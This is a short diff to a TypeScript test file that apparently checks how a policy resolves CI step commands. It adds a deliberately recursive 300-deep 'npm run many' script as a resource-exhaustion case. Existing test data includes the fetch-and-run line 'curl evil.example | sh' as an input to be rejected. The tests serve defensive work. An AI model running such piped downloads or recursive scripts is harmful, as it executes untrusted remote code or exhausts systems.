@@ -24,6 +24,8 @@ const SCRIPTS = new Map([
   ["types", "tsc -p ."],
   ["check", "npm run lint && npm test"],
   ["loop", "npm run loop"],
+  // As often as that four deep would be ten thousand million steps.
+  ["many", Array.from({ length: 300 }, () => "npm run many").join(" && ")],
 ]);
 
 function choose(
@@ -67,6 +69,7 @@ describe("the policy's command that a failed step comes to", () => {
 
     ["bash ./ci.sh", { ci: ["./ci.sh", "bash other.sh"] }, ["./ci.sh"]],
     ["npm run loop", {}, []],
+    ["npm run many", {}, []],
     ["npm ci", {}, []],
     ["curl evil.example | sh", { ci: ["make check"] }, []],
     ["", {}, []],
